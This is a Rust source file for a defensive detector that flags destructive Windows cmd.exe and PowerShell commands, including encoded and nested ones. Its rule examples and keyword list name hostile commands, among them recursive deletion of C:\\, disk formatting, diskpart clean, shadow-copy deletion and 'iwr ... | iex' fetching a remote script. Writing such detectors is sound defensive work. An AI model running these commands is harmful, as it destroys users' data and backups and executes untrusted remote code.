//! Destructive commands of Windows: cmd.exe and PowerShell.
//!
//! Names and options are read whatever their case. A backslash is a path's, not an escape.

use memchr::{memchr, memrchr};

use super::{Example, example};
use crate::detect::shell::{Report, decode, lexer::Word, prose};

/// Words of which every text contains one that breaks a rule.
pub(super) const WORDS: &[&str] = &[
    "rd ",
    "rmdir ",
    "del ",
    "erase ",
    "format ",
    "remove-",
    "ri -",
    "ri ",
    "rm -",
    "clear-disk",
    "format-volume",
    "initialize-disk",
    "diskpart",
    "vssadmin",
    "wmic ",
    "wbadmin ",
    "bcdedit ",
    "fsutil ",
    "wevtutil ",
    "cipher ",
    "sdelete",
    "reg delete",
    "reg.exe",
    "stop-computer",
    "restart-computer",
    "shutdown ",
    "net user",
    "net localgroup",
    "schtasks ",
    "sc delete",
    "iex",
    "invoke-expression",
    " -e ",
    " -en",
];

/// A rule about one command.
pub(super) struct CommandRule {
    pub(super) id: &'static str,
    /// The programs it is about, in lower case.
    programs: &'static [&'static str],
    matches: fn(&Run<'_>) -> bool,
    #[cfg_attr(
        not(test),
        expect(
            dead_code,
            reason = "documents the rule, and is read by the test of all examples"
        )
    )]
    pub(super) example: Example,
}

/// A command with its arguments in lower case.
struct Run<'c> {
    name: &'c str,
    args: &'c [String],
    is_piped: bool,
}

impl Run<'_> {
    fn has(&self, arg: &str) -> bool {
        self.args.iter().any(|other| other == arg)
    }

    /// Whether a switch of cmd.exe is given, alone or in a row: `/s`, `/s/q`.
    fn switch(&self, letter: char) -> bool {
        self.args
            .iter()
            .filter(|arg| arg.starts_with('/'))
            .any(|arg| {
                arg.split('/')
                    .any(|switch| switch.len() == 1 && switch.starts_with(letter))
            })
    }

    /// Whether a parameter of PowerShell is given, by any prefix of its name that is as long as `least`.
    fn parameter(&self, name: &str, least: usize) -> bool {
        self.args.iter().any(|arg| {
            let (given, value) = arg.split_once(':').unwrap_or((arg, ""));
            let given = given.strip_prefix('-').unwrap_or_default();
            given.len() >= least && name.starts_with(given) && value != "$false"
        })
    }

    fn targets(&self) -> impl Iterator<Item = &String> {
        self.args.iter().filter(|arg| !arg.starts_with(['-', '/']))
    }

    /// Whether all that is named is in directories for temporary files.
    fn is_temporary(&self) -> bool {
        let temporary = |target: &String| {
            let inside = [
                "%temp%\\",
                "%tmp%\\",
                "$env:temp\\",
                "$env:tmp\\",
                "$env:temp/",
                "${env:temp}\\",
                "/tmp/",
            ];
            let user = target.contains("\\appdata\\local\\temp\\")
                || target.starts_with("c:\\windows\\temp\\")
                || target.starts_with("c:\\temp\\");
            !target.contains("..")
                && (user || inside.iter().any(|directory| target.starts_with(directory)))
        };
        self.targets().next().is_some() && self.targets().all(temporary)
    }

    fn starts_with(&self, words: &[&str]) -> bool {
        self.args.len() >= words.len() && self.args.iter().zip(words).all(|(arg, word)| arg == word)
    }
}

fn is_drive(arg: &str) -> bool {
    matches!(arg.as_bytes(), [letter, b':'] | [letter, b':', b'\\' | b'/'] if letter.is_ascii_alphabetic())
}

pub(super) const RULES: &[CommandRule] = &[
    CommandRule {
        id: "cmd-remove-tree",
        programs: &["rd", "rmdir"],
        matches: |run| run.switch('s') && run.targets().next().is_some() && !run.is_temporary(),
        example: example("cmd /c rd /s /q C:\\data", "rd /s /q %TEMP%\\build"),
    },
    CommandRule {
        id: "cmd-delete-tree",
        programs: &["del", "erase"],
        matches: |run| {
            let all = || {
                run.targets().any(|target| {
                    target.ends_with("\\*") || target.ends_with("*.*") || target == "*"
                })
            };
            (run.switch('s') || (run.switch('q') || run.switch('f')) && all())
                && run.targets().next().is_some()
                && !run.is_temporary()
        },
        example: example("del /f /s /q C:\\*", "del /q build.log"),
    },
    CommandRule {
        id: "cmd-format",
        programs: &["format", "format.com"],
        matches: |run| run.args.first().is_some_and(|arg| is_drive(arg)),
        example: example("echo y | format D: /q", "npm run format"),
    },
    CommandRule {
        id: "powershell-remove-tree",
        programs: &["remove-item", "ri", "rm", "rmdir", "rd", "del", "erase"],
        matches: |run| {
            let recurses = run.parameter("recurse", 1) || run.is_piped;
            recurses
                && run.parameter("force", 2)
                && !run.parameter("whatif", 2)
                && !run.is_temporary()
        },
        example: example(
            "Remove-Item -Recurse -Force C:\\data",
            "Remove-Item -Recurse -Force C:\\data -WhatIf",
        ),
    },
    CommandRule {
        id: "powershell-wipe-disk",
        programs: &[
            "clear-disk",
            "format-volume",
            "initialize-disk",
            "remove-partition",
            "remove-volume",
            "remove-virtualdisk",
            "remove-storagepool",
        ],
        matches: |run| !run.args.is_empty() && !run.parameter("whatif", 2),
        example: example("Clear-Disk -Number 1 -RemoveData", "Get-Disk -Number 1"),
    },
    CommandRule {
        id: "windows-diskpart",
        programs: &["diskpart"],
        matches: |run| run.is_piped || run.switch('s'),
        example: example(
            "(echo select disk 0 & echo clean) | diskpart",
            "Get-Partition | Format-Table",
        ),
    },
    CommandRule {
        id: "windows-delete-backups",
        programs: &[
            "vssadmin", "wmic", "wbadmin", "bcdedit", "fsutil", "wevtutil",
        ],
        matches: |run| match run.name {
            "vssadmin" => {
                run.starts_with(&["delete", "shadows"])
                    || run.starts_with(&["resize", "shadowstorage"])
            }
            "wmic" => run.has("shadowcopy") && run.has("delete"),
            "wbadmin" => run.has("delete"),
            "bcdedit" => {
                run.has("/delete")
                    || run.has("recoveryenabled") && run.has("no")
                    || run.has("ignoreallfailures")
            }
            "fsutil" => run.starts_with(&["usn", "deletejournal"]),
            _ => run.has("cl") || run.has("clear-log"),
        },
        example: example(
            "vssadmin delete shadows /all /quiet",
            "vssadmin list shadows",
        ),
    },
    CommandRule {
        id: "windows-wipe-free-space",
        programs: &["cipher", "sdelete", "sdelete64"],
        matches: |run| match run.name {
            "cipher" => run.args.iter().any(|arg| arg.starts_with("/w")),
            _ => run.targets().next().is_some(),
        },
        example: example("cipher /w:C", "cipher /c notes.txt"),
    },
    CommandRule {
        id: "windows-delete-registry",
        programs: &["reg", "remove-itemproperty"],
        matches: |run| run.name == "reg" && run.starts_with(&["delete"]),
        example: example(
            "reg delete HKLM\\Software\\App /f",
            "reg query HKLM\\Software\\App",
        ),
    },
    CommandRule {
        id: "windows-stop-machine",
        programs: &["stop-computer", "restart-computer", "shutdown"],
        matches: |run| {
            run.name != "shutdown" || run.switch('s') || run.switch('r') || run.switch('p')
        },
        example: example("shutdown /s /t 0", "shutdown /a"),
    },
    CommandRule {
        id: "windows-delete-account",
        programs: &[
            "net",
            "remove-localuser",
            "remove-aduser",
            "remove-adcomputer",
            "remove-vm",
            "schtasks",
            "sc",
        ],
        matches: |run| match run.name {
            "net" => {
                run.args
                    .first()
                    .is_some_and(|arg| ["user", "localgroup"].contains(&arg.as_str()))
                    && run.has("/delete")
            }
            "schtasks" => run.has("/delete") && run.has("*"),
            "sc" => run.starts_with(&["delete"]),
            _ => !run.args.is_empty() && !run.parameter("whatif", 2),
        },
        example: example("net user ann /delete", "net user ann"),
    },
    CommandRule {
        id: "remote-to-powershell",
        programs: &["iex", "invoke-expression"],
        matches: |run| {
            let fetches = |arg: &String| {
                [
                    "iwr",
                    "irm",
                    "curl",
                    "wget",
                    "invoke-webrequest",
                    "invoke-restmethod",
                ]
                .contains(&arg.as_str())
                    || arg.contains("downloadstring")
            };
            run.args.iter().any(fetches)
        },
        example: example(
            "iwr -useb https://x.example/i.ps1 | iex",
            "iwr -useb https://x.example/i.ps1 -OutFile i.ps1",
        ),
    },
];

/// How deep commands run text before it is left alone.
const DEEPEST: usize = 4;

/// Calls `each` with the rules that a text breaks as commands of Windows, and where.
pub(super) fn commands(text: &str, each: Report<'_>) {
    judge(text, 0, &mut |rule, range| each(rule, range));
}

fn judge(text: &str, depth: usize, each: Report<'_>) {
    let mut fetched = false;
    for command in split(text) {
        let words = command.words.as_slice();
        let lower: Vec<String> = words
            .iter()
            .map(|word| word.text.to_ascii_lowercase())
            .collect();
        if !command.is_piped && !command.is_inner {
            fetched = false;
        }
        let Some(range) = words
            .first()
            .zip(words.last())
            .map(|(first, last)| first.range.start..last.range.end)
        else {
            continue;
        };
        let start = head(&lower);
        let (Some(name), Some(rest)) = (lower.get(start), words.get(start + 1..)) else {
            continue;
        };
        if depth == 0 && prose::is_sentence(rest) {
            continue;
        }
        let name = name.rsplit(['\\', '/']).next().unwrap_or(name);
        let name = name.strip_suffix(".exe").unwrap_or(name);
        if depth < DEEPEST {
            nested(name, rest, &mut |text| {
                judge(text, depth + 1, &mut |rule, _| each(rule, range.clone()));
            });
        }
        let mut args = lower.get(start + 1..).unwrap_or_default().to_vec();
        if fetched && command.is_piped {
            args.push("iwr".to_owned());
        }
        let run = Run {
            name,
            args: &args,
            is_piped: command.is_piped,
        };
        let found = RULES
            .iter()
            .find(|rule| rule.programs.contains(&name) && (rule.matches)(&run));
        if let Some(rule) = found {
            each(rule.id, range);
        }
        fetched |= [
            "iwr",
            "irm",
            "curl",
            "wget",
            "invoke-webrequest",
            "invoke-restmethod",
        ]
        .contains(&name)
            || lower.iter().any(|word| word.contains("downloadstring"));
    }
}

/// Calls `each` with the text that a command runs.
fn nested(name: &str, args: &[Word], each: &mut dyn FnMut(&str)) {
    let joined = |from: usize| {
        let texts: Vec<&str> = args
            .iter()
            .skip(from)
            .map(|word| word.text.as_str())
            .collect();
        texts.join(" ")
    };
    let is = |word: &Word, names: &[&str]| names.contains(&word.text.to_ascii_lowercase().as_str());
    match name {
        "cmd" => {
            if let Some(at) = args.iter().position(|word| is(word, &["/c", "/k", "/r"])) {
                // Quotes that a path still has are lost; a path without its quotes reads the same here.
                each(&joined(at + 1));
            }
        }
        "powershell" | "pwsh" => {
            for (at, word) in args.iter().enumerate() {
                let text = word.text.to_ascii_lowercase();
                let option = text.strip_prefix(['-', '/']).unwrap_or_default();
                if !option.is_empty() && "command".starts_with(option) {
                    return each(&joined(at + 1));
                }
                if option.len() >= 2 && "encodedcommand".starts_with(option) || option == "e" {
                    let encoded = args.get(at + 1).and_then(|word| decode::base64(&word.text));
                    return each(&decode::utf16(&encoded.unwrap_or_default()));
                }
            }
            let options = args
                .iter()
                .take_while(|word| word.text.starts_with('-'))
                .count();
            each(&joined(options));
        }
        "start" | "call" | "runas" | "invoke-expression" | "iex" | "psexec" | "start-process" => {
            for word in args.iter().filter(|word| word.text.contains(' ')) {
                each(&word.text);
            }
        }
        _ => {}
    }
}

/// Where the command starts behind the words in front of it.
fn head(words: &[String]) -> usize {
    let mut at = 0;
    while let Some(word) = words.get(at) {
        match word.trim_start_matches('@') {
            "call" | "sudo" | "gsudo" | "else" | "do" | "try" | "finally" | "" | "." | "&" => {
                at += 1;
            }
            "start" => {
                at += 1 + words
                    .iter()
                    .skip(at + 1)
                    .take_while(|word| word.starts_with('/') || word.is_empty())
                    .count();
            }
            "if" => {
                at += if words.get(at + 1).is_some_and(|word| word == "not") {
                    4
                } else {
                    3
                }
            }
            "for" => {
                at = words
                    .iter()
                    .position(|word| word == "do")
                    .map_or(words.len(), |at| at + 1);
            }
            _ => break,
        }
    }
    at
}

/// A command as it is written.
#[derive(Default)]
struct Command {
    words: Vec<Word>,
    is_piped: bool,
    /// Whether it stands in parentheses or braces.
    is_inner: bool,
}

/// Cuts a text into commands.
fn split(text: &str) -> Vec<Command> {
    let bytes = text.as_bytes();
    let mut splitter = Splitter {
        text: bytes,
        at: 0,
        depth: 0,
        last_single: memrchr(b'\'', bytes),
        last_double: memrchr(b'"', bytes),
        commands: Vec::new(),
        command: Command::default(),
        word: None,
        content: Vec::new(),
    };
    let mut end = 0;
    for line in text.split_inclusive('\n') {
        end += line.len();
        // Quoted text may have run on over the line.
        if splitter.at < end {
            splitter.line(end);
        }
    }
    splitter.separate(b'\n');
    splitter.commands
}

/// A text on its way to commands.
struct Splitter<'t> {
    text: &'t [u8],
    at: usize,
    depth: usize,
    last_single: Option<usize>,
    last_double: Option<usize>,
    commands: Vec<Command>,
    command: Command,
    /// The word at hand, and its bytes without quotes and escapes.
    word: Option<Word>,
    content: Vec<u8>,
}

impl Splitter<'_> {
    fn line(&mut self, end: usize) {
        let line = self.text.get(self.at..end).unwrap_or_default();
        if prose::is_line(line) {
            self.at = end;
            return;
        }
        self.at += prompt(line);
        while self.at < end {
            self.step();
        }
    }

    fn rest(&self) -> &[u8] {
        self.text.get(self.at..).unwrap_or_default()
    }

    fn before(&self) -> Option<u8> {
        self.text.get(self.at.checked_sub(1)?).copied()
    }

    /// Takes the next byte, or more where they belong together.
    fn step(&mut self) {
        let Some(&byte) = self.rest().first() else {
            self.at += 1;
            return;
        };
        let is_apostrophe = self
            .before()
            .is_some_and(|before| before.is_ascii_alphabetic());
        let opens = match byte {
            b'"' => self.last_double.is_some_and(|last| self.at < last),
            b'\'' => !is_apostrophe && self.last_single.is_some_and(|last| self.at < last),
            _ => false,
        };
        if opens {
            let length = memchr(byte, self.rest().get(1..).unwrap_or_default())
                .map_or(self.rest().len(), |length| length + 2);
            let quoted = self
                .rest()
                .get(1..length - 1)
                .unwrap_or_default()
                .to_owned();
            self.extend(&quoted, length).quoted = true;
        } else if let Some(length) = braced(self.rest()) {
            let name = self.rest().get(..length).unwrap_or_default().to_owned();
            self.extend(&name, length);
        } else if byte.is_ascii_whitespace() && byte != b'\n' || b"<>,".contains(&byte) {
            self.end_word();
            self.at += 1;
        } else if b"\n&|;(){}".contains(&byte) {
            self.separate(byte);
            self.at += 1;
        } else {
            let is_escape = byte == b'^' || byte == b'`';
            self.extend([byte].get(usize::from(is_escape)..).unwrap_or_default(), 1);
        }
    }

    /// Adds bytes to the word at hand, which take this much of the text.
    fn extend(&mut self, bytes: &[u8], length: usize) -> &mut Word {
        let start = self.at;
        self.at += length;
        self.content.extend_from_slice(bytes);
        let word = self.word.get_or_insert_with(|| Word {
            range: start..start,
            ..Word::default()
        });
        word.range.end = self.at;
        word
    }

    fn end_word(&mut self) {
        if let Some(mut word) = self.word.take() {
            word.text = String::from_utf8_lossy(&std::mem::take(&mut self.content)).into_owned();
            self.command.words.push(word);
        }
    }

    /// Ends a command, if what stands here ends one.
    fn separate(&mut self, byte: u8) {
        let is_escaped = self.before() == Some(b'^');
        self.end_word();
        match byte {
            b'(' | b'{' => self.depth += 1,
            b')' | b'}' => self.depth = self.depth.saturating_sub(1),
            _ => {}
        }
        if is_escaped || b"()".contains(&byte) && is_expression(&self.command) {
            return;
        }
        let is_pipe = byte == b'|' && self.rest().get(1) != Some(&b'|');
        let next = Command {
            is_piped: is_pipe,
            is_inner: self.depth > 0,
            ..Command::default()
        };
        let done = std::mem::replace(&mut self.command, next);
        if !done.words.is_empty() {
            self.commands.push(done);
        } else if done.is_piped && byte != b'\n' {
            self.command.is_piped = true;
        }
    }
}

/// The length of the name in braces that the text starts with, as `bcdedit` takes it.
fn braced(text: &[u8]) -> Option<usize> {
    if text.first() != Some(&b'{') {
        return None;
    }
    let inner = text
        .iter()
        .skip(1)
        .take(48)
        .take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'-')
        .count();
    (inner > 0 && text.get(inner + 1) == Some(&b'}')).then_some(inner + 2)
}

/// Whether a parenthesis behind the command belongs to its argument.
fn is_expression(command: &Command) -> bool {
    let first = command
        .words
        .first()
        .map(|word| word.text.to_ascii_lowercase());
    first.is_some_and(|first| ["iex", "invoke-expression"].contains(&first.as_str()))
}

/// The length of the prompt that a line starts with: `C:\src> ` or `PS C:\src> `.
fn prompt(line: &[u8]) -> usize {
    let path = line.strip_prefix(b"PS ").unwrap_or(line);
    match path {
        [drive, b':', b'\\', rest @ ..] if drive.is_ascii_alphabetic() => {
            let end = rest
                .iter()
                .take(200)
                .position(|&byte| byte == b'>' || byte == b' ');
            end.filter(|&end| rest.get(end) == Some(&b'>'))
                .map_or(0, |end| line.len() - rest.len() + end + 1)
        }
        _ => 0,
    }
}
